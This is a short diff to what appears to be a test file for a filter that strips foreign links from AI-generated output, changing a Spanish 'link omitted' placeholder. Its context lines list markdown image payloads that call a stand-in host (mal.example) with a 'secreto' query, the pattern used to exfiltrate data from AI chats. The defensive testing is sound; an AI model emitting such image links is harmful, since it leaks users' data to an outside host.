@@ -17,7 +17,7 @@ from server.app import create_app
 from services.prompting.outgoing_links import LinkFilter, without_foreign_links
 
 OWN = VACATION["url"]
-NOTE = "enlace omitido"
+NOTE = "[enlace omitido]"
 ATTACKS = [
     "![x](https://mal.example/?d=secreto)",
     "![x]  (//mal.example/i.png)",
